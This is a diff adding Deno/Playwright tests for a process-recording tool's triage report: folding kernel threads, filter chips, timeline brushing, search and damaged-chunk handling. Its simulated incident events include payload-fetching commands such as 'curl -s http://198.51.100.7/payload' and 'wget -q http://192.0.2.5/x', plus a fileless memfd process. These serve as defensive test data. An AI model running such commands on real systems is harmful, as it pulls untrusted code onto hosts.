@@ -9,6 +9,7 @@
  * Not skipped: scripts/setup.sh installs chromium; without it this fails.
  */
 import { quoteArg } from "../cli/analysis/mod.ts";
+import type { ProcEvent } from "../cli/events/types.ts";
 import "../cli/bundle/_zip.ts"; // zip.js without web workers
 import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from "@zip.js/zip.js";
 import { type BrowserContext, chromium, type Page } from "playwright-core";
@@ -21,6 +22,9 @@ import {
   writeLarge,
 } from "./_bundle_helpers.ts";
 import { assert, assertEquals } from "./_record_helpers.ts";
+import { processCreate, testHeader } from "./_recording_helpers.ts";
+import { RecordingWriter } from "../cli/log/mod.ts";
+import { scanItem } from "../cli/log/_cbor_scan.ts";
 
 const CHROMIUM = "/usr/bin/chromium";
 const ROOT = new URL("..", import.meta.url).pathname;
@@ -90,6 +94,352 @@ function row(page: Page, command: string | RegExp) {
     has: page.locator(".cmd", { hasText: command }),
   });
 }
+
+const MS = 1_000_000;
+
+/**
+ * A whole-host-like recording for triage: the incident workload, plus
+ * kthreadd and 60 kernel threads running before the recording, a setuid
+ * `passwd` run by uid 1000, a fileless image, and a `wget` whose image has a
+ * SHA-256.
+ */
+function triageEvents(): ProcEvent[] {
+  const e: ProcEvent[] = [{
+    kind: "process_snapshot",
+    t: 0,
+    pid: 2,
+    tid: 2,
+    ppid: 0,
+    start: -5_000 * MS,
+    info: { comm: "kthreadd", from: {} },
+  }];
+  for (let i = 0; i < 60; i++) {
+    e.push({
+      kind: "process_snapshot",
+      t: 0,
+      pid: 10 + i,
+      tid: 10 + i,
+      ppid: 2,
+      start: -4_000 * MS,
+      info: { comm: `kworker/${i}:0`, from: {} },
+    });
+  }
+  const exec = (
+    t: number,
+    pid: number,
+    info: Record<string, unknown>,
+  ): ProcEvent[] => [
+    processCreate(t, pid, 100),
+    {
+      kind: "exec",
+      t: t + MS / 10,
+      pid,
+      tid: pid,
+      info: { from: { image: "kernel", argv: "kernel" }, ...info },
+    } as ProcEvent,
+  ];
+  const extra: ProcEvent[] = [
+    ...exec(215 * MS, 120, {
+      image: "/usr/bin/passwd",
+      argv: ["passwd"],
+      uid: 1000,
+      euid: 0,
+      gid: 1000,
+      egid: 1000,
+      cwd: "/home/eve",
+    }),
+    { kind: "process_exit", t: 218 * MS, pid: 120, tid: 120, status: 0 },
+    ...exec(250 * MS, 121, {
+      image: "/memfd:stage (deleted)",
+      argv: ["x"],
+      fileless: true,
+    }),
+    { kind: "process_exit", t: 251 * MS, pid: 121, tid: 121, status: 0 },
+    ...exec(270 * MS, 122, {
+      image: "/usr/bin/wget",
+      argv: ["wget", "-q", "http://192.0.2.5/x"],
+      sha256: WGET_SHA,
+    }),
+    { kind: "process_exit", t: 275 * MS, pid: 122, tid: 122, status: 0 },
+  ];
+  return [...incidentEvents(), ...e, ...extra].sort((a, b) => a.t - b.t);
+}
+const WGET_SHA =
+  "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8";
+
+/** Every cell of the pid, start and duration columns shows its whole text. */
+async function cutCells(page: Page): Promise<string[]> {
+  return await page.$$eval(
+    ".row .pid, .row .start, .row .dur, .row .exit, .row .user, .cols span:not(.ruler)",
+    (cells) =>
+      cells.filter((c) => c.scrollWidth > c.clientWidth).map((c) =>
+        `${c.className}: ${c.textContent} (${c.scrollWidth} > ${c.clientWidth})`
+      ),
+  );
+}
+
+/** Drags across the overview timeline from time `a` to `b` (ns). */
+async function brush(page: Page, a: number, b: number): Promise<void> {
+  const box = (await page.locator("#overview").boundingBox())!;
+  const data = JSON.parse((await page.textContent("#procrec-data"))!);
+  const { first, last } = data.recordings[0];
+  const x = (t: number) => box.x + (t - first) / (last - first) * box.width;
+  const y = box.y + box.height / 3;
+  await page.mouse.move(x(a), y);
+  await page.mouse.down();
+  await page.mouse.move((x(a) + x(b)) / 2, y, { steps: 3 });
+  await page.mouse.move(x(b), y, { steps: 3 });
+  await page.mouse.up();
+}
+
+Deno.test("report for triage: kernel threads folded, activity open, chips, a brushed window, search by pid, user, hash and exit, uncut columns", async () => {
+  await inTempDir(async (dir) => {
+    await writeIncident(`${dir}/host.cbor`, triageEvents());
+    const r = await procrec(["report", "host.cbor", "-o", "host.html"], {
+      cwd: dir,
+    });
+    assertEquals(r.code, 0, r.stderr);
+    await withPage(`${dir}/host.html`, async (page, requests, errors) => {
+      // opens on the activity: kthreadd folded, its 60 children not shown
+      const first = await rowCommands(page);
+      assertEquals(first.slice(0, 3), [
+        "/sbin/init",
+        "sh -c incident.sh",
+        "ls /",
+      ]);
+      for (const c of ["sleep 0.2", "passwd", "wget -q http://192.0.2.5/x"]) {
+        assert(first.includes(c), `${c} is shown: ${first}`);
+      }
+      assertEquals(
+        await row(page, "[kthreadd]").locator(".toggle").textContent(),
+        "\u25B8",
+        "kthreadd is folded",
+      );
+      assert(!first.some((c) => c.includes("kworker")), first.join("\n"));
+      assertEquals(
+        await page.textContent("#shown"),
+        "13 of 73 processes shown",
+        "at first",
+      );
+      assertEquals(await cutCells(page), [], "no column is cut");
+
+      // chips: failed (curl exit 7, python3 SIGKILL, the subshell exit 3)
+      const chip = (name: string) => page.locator(`.chip[data-chip="${name}"]`);
+      assertEquals(await chip("failed").textContent(), "failed (3)");
+      assertEquals(await chip("setuid").textContent(), "setuid (1)");
+      assertEquals(await chip("fileless").textContent(), "fileless (1)");
+      assertEquals(
+        await chip("existing-before").textContent(),
+        "existing-before (62)",
+      );
+      await chip("failed").click();
+      assertEquals(
+        await page.textContent("#shown"),
+        "5 of 73 processes shown, 3 pass the filters",
+      );
+      assertEquals(await rowCommands(page), [
+        "/sbin/init",
+        "sh -c incident.sh",
+        "sh",
+        "python3 -c 'serve()'",
+        "curl -s http://198.51.100.7/payload",
+      ]);
+      assert(
+        /\bctx\b/.test((await row(page, "/sbin/init").getAttribute("class"))!),
+        "an ancestor shown for context is marked",
+      );
+      // AND across chips: failed and signal leave the killed python3
+      await chip("signal").click();
+      assertEquals(
+        await page.textContent("#shown"),
+        "3 of 73 processes shown, 1 pass the filters",
+      );
+      await chip("failed").click();
+      await chip("signal").click();
+      await chip("setuid").click();
+      assertEquals(await rowCommands(page), [
+        "/sbin/init",
+        "sh -c incident.sh",
+        "passwd",
+      ]);
+      await chip("setuid").click();
+      await chip("fileless").click();
+      assertEquals((await rowCommands(page)).at(-1), "x");
+      await chip("fileless").click();
+      assertEquals(
+        await page.textContent("#shown"),
+        "13 of 73 processes shown",
+        "chips off",
+      );
+
+      // brushing: the processes started between 235 and 255 ms
+      await brush(page, 235 * MS, 255 * MS);
+      await page.locator("#shown", { hasText: "pass the filters" }).waitFor();
+      assertEquals(await rowCommands(page), [
+        "/sbin/init",
+        "sh -c incident.sh",
+        "curl -s http://198.51.100.7/payload",
+        "x",
+      ]);
+      const win = (await page.textContent("#window"))!;
+      assert(
+        /^2026-09-21T14:13:20\.23\d+Z to 2026-09-21T14:13:20\.25\d+Z/.test(win),
+        win,
+      );
+      // zoomed: curl's 20 ms lifetime fills most of a ~20 ms window
+      const style = (await row(page, "curl -s").locator(".bar")
+        .getAttribute("style"))!;
+      const width = parseFloat(/width: ([\d.]+)%/.exec(style)![1]);
+      assert(width > 50, `curl's bar is ${width}% wide`);
+      // alive in the window: python3 (210-300 ms) and sh -c too
+      await page.selectOption("#winmode", "alive");
+      const alive = await rowCommands(page);
+      assert(alive.includes("python3 -c 'serve()'"), alive.join("\n"));
+      assert(!alive.includes("passwd"), alive.join("\n"));
+      // a chip and the window combine
+      await chip("failed").click();
+      assertEquals(
+        await page.textContent("#shown"),
+        "4 of 73 processes shown, 2 pass the filters",
+      );
+      await chip("failed").click();
+      await page.click("#resetwin");
+      assertEquals(
+        await page.textContent("#shown"),
+        "13 of 73 processes shown",
+      );
+      await page.selectOption("#winmode", "started");
+
+      // search by pid, pid:, user, hash, exit status
+      const find = async (q: string, cmd: string, count: number) => {
+        await page.fill("#search", q);
+        await page.press("#search", "Enter");
+        await page.locator(".row.sel .cmd", { hasText: cmd }).waitFor();
+        assertEquals(
+          await page.textContent("#matches"),
+          `1 / ${count} matches`,
+          q,
+        );
+      };
+      await find("105", "sleep 0.2", 1);
+      assert((await page.textContent("#details"))!.includes("pid: 105"));
+      await find("pid:122", "wget", 1);
+      await find("user:1000", "passwd", 1);
+      const details = (await page.textContent("#details"))!;
+      for (const s of ["user: uid 1000 as uid 0", "cwd: /home/eve", "setuid"]) {
+        assert(details.includes(s), `details show ${s}: ${details}`);
+      }
+      await find(WGET_SHA.slice(10, 30), "wget", 1);
+      assert(
+        (await page.textContent("#details"))!.includes(`sha256: ${WGET_SHA}`),
+      );
+      await find("hash:5e8848", "wget", 1);
+      await find("exit:7", "curl", 1);
+      await find("sigkill", "python3", 1);
+      await page.fill("#search", "pid:99999");
+      await page.press("#search", "Enter");
+      await waitMatches(page, "no match");
+
+      // a kernel thread is one search away
+      await find("kworker/59", "kworker/59:0", 1);
+      assertEquals(await cutCells(page), [], "no column is cut");
+      await page.screenshot({
+        path: `${ROOT}test-artifacts/report-triage.png`,
+      });
+      assertEquals(errors, [], "no page errors");
+      assertEquals(requests, [`file://${dir}/host.html`], "no network");
+    });
+  });
+});
+
+Deno.test("a damaged final chunk: processes whose end was in it are 'unknown (damaged)' in the tree, the JSON and the report; the loss has real bounds", async () => {
+  await inTempDir(async (dir) => {
+    // the incident, closed 320 ms after its time base, in chunks of 5 events
+    const header = testHeader();
+    const w = await RecordingWriter.create(`${dir}/dam.cbor`, header, {
+      chunkEvents: 5,
+      flushIntervalMs: 0,
+    });
+    for (const e of incidentEvents()) w.write(e);
+    await w.close({ endUtcNs: header.timeBase.utcNs + 320n * BigInt(MS) });
+    // flip a byte inside the last chunk: the exits of python3 and sh are in it
+    const bytes = await Deno.readFile(`${dir}/dam.cbor`);
+    const ends: number[] = [];
+    for (let p = 0; p < bytes.length; p = scanItem(bytes, p)) ends.push(p);
+    const lastChunkEnd = ends[ends.length - 1]; // where the trailer begins
+    bytes[lastChunkEnd - 3] ^= 0xff;
+    await Deno.writeFile(`${dir}/dam.cbor`, bytes);
+
+    const tree = await procrec(["replay", "dam.cbor"], { cwd: dir });
+    assertEquals(tree.code, 0, tree.stderr);
+    const line = (pid: number) =>
+      tree.stdout.split("\n").find((l) => l.includes(`[${pid}]`)) ?? "";
+    for (const pid of [1, 100, 106]) {
+      assert(
+        line(pid).includes("unknown (damaged)") &&
+          line(pid).includes("end-lost"),
+        `pid ${pid}: ${line(pid)}`,
+      );
+    }
+    assert(line(108).includes("exit 7"), line(108));
+    assert(!tree.stdout.includes("running"), tree.stdout);
+    assert(tree.stderr.includes("3 events known missing"), tree.stderr);
+
+    const json = await procrec(["replay", "--json", "dam.cbor"], { cwd: dir });
+    assertEquals(json.code, 0, json.stderr);
+    const forest = JSON.parse(json.stdout);
+    const byPid = new Map<number, Record<string, unknown>>(
+      forest.processes.map((p: { pid: number }) => [p.pid, p]),
+    );
+    for (const pid of [1, 100, 106]) {
+      assertEquals(byPid.get(pid)!.endState, "unknown (damaged)", `pid ${pid}`);
+    }
+    assertEquals(byPid.get(108)!.endState, undefined);
+    // the damaged tail is a lost span from the last event read to the close
+    assertEquals(forest.lost.at(-1), {
+      from: 260 * MS,
+      to: 320 * MS,
+      reason: "recording",
+      count: 3,
+      countUnknown: false,
+    });
+
+    const r = await procrec(["report", "dam.cbor", "-o", "dam.html"], {
+      cwd: dir,
+    });
+    assertEquals(r.code, 0, r.stderr);
+    await withPage(`${dir}/dam.html`, async (page, requests, errors) => {
+      for (const cmd of ["/sbin/init", "sh -c incident.sh", "python3"]) {
+        assertEquals(
+          await row(page, cmd).locator(".exit").textContent(),
+          "unknown (damaged)",
+          cmd,
+        );
+        assertEquals(
+          await row(page, cmd).locator(".bar").getAttribute("class"),
+          "bar c4",
+          `${cmd}: grey, unknown`,
+        );
+      }
+      const meta = (await page.textContent("#meta"))!;
+      assert(
+        meta.includes(
+          "events missing3 (in damaged or missing chunks; the trailer counts 28 events)",
+        ),
+        meta,
+      );
+      const lost = (await page.textContent("#lostlist"))!;
+      assert(
+        lost.includes(
+          "lost 3 events in damaged or missing chunks of the recording between 2026-09-21T14:13:20.260Z and 2026-09-21T14:13:20.320Z",
+        ),
+        lost,
+      );
+      assertEquals(errors, [], "no page errors");
+      assertEquals(requests, [`file://${dir}/dam.html`], "no network");
+    });
+  });
+});
 
 Deno.test("report: the tree expands, search finds an image, the timeline colours exits, no network", async () => {
   await inTempDir(async (dir) => {
@@ -229,7 +579,8 @@ Deno.test("report: 100,000 processes render lazily, and search still finds one",
     await withPage(`${dir}/large.html`, async (page, requests, errors) => {
       assertEquals(
         await page.textContent("#shown"),
-        "101 of 100101 processes shown",
+        "1101 of 100101 processes shown",
+        "the latest activity opens: sh, its 100 makes, the last make's 1000 jobs",
       );
       await page.click("#expandall");
       assertEquals(
